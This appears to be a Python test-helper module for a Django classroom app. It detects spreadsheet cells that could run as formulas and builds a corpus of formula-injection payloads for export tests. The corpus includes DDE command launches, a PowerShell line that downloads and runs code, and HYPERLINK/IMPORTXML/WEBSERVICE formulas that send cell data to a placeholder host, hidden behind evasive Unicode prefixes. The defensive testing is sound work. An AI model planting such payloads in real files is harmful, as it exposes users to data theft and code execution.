"""Helpers of the authorization, origins, exports, privacy and deploy checks of the reliability
suite: who is who in a classroom (the actors of the authorization matrix), and what counts as a
spreadsheet cell that could run."""

import re
import unicodedata

from django.test import Client

from classroom import auth

# Executable cells ---------------------------------------------------------------------------------

SPREADSHEET_TRIGGERS = ("=", "+", "-", "@")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def visible_start(text):
    """The first character a spreadsheet would act on: hidden characters skipped, compatibility
    forms (full-width ＝, small ﹦) folded to ASCII."""
    for char in text:
        if char.isspace() or unicodedata.category(char)[0] in "ZC":
            continue
        return unicodedata.normalize("NFKC", char)
    return ""


def executable_text(value):
    """True when a text cell could start a formula or DDE in a spreadsheet that opens it."""
    if not isinstance(value, str) or not value or value.startswith("'") or NUMBER.match(value):
        return False
    return value.startswith(("\t", "\r")) or visible_start(value).startswith(SPREADSHEET_TRIGGERS)


def injection_corpus():
    """Formula, DDE and hyperlink payloads behind every trigger, each trigger behind every hidden
    or blank prefix a reader may drop; over 200 distinct texts."""
    cores = [
        "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "SUM(1,2)", 'IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
        'DDE("cmd";"/C calc";"__DdeLink_60_870516294")', 'WEBSERVICE("http://example.invalid")',
        "2+5+cmd|' /C calc'!A0", "A1*1000", 'cmd|"/C powershell IEX(wget example.invalid)"!A0',
    ]
    triggers = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62",
                "\ufe63"]
    hidden = ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\u200c",
              "\u200d", "\u2060", "\ufeff", "\u2028", "\u202f", "\x0b", "\x01", " \u200b\ufeff",
              "\t\u200b "]
    corpus = []
    for n, (prefix, trigger) in enumerate((p, t) for p in hidden for t in triggers):
        corpus.append(prefix + trigger + cores[n % len(cores)])
    corpus += ["=" + core for core in cores]
    corpus += ["\t", "\r", "-", "=", "@", "+"]
    return list(dict.fromkeys(corpus))


# Clients -----------------------------------------------------------------------------------------


def student_client(token):
    client = Client()
    if token:
        client.cookies[auth.COOKIE_NAME] = auth._signer().sign(token)
    return client


def teacher_client(user, language="en"):
    client = Client()
    client.force_login(user)
    client.cookies["language"] = language
    return client
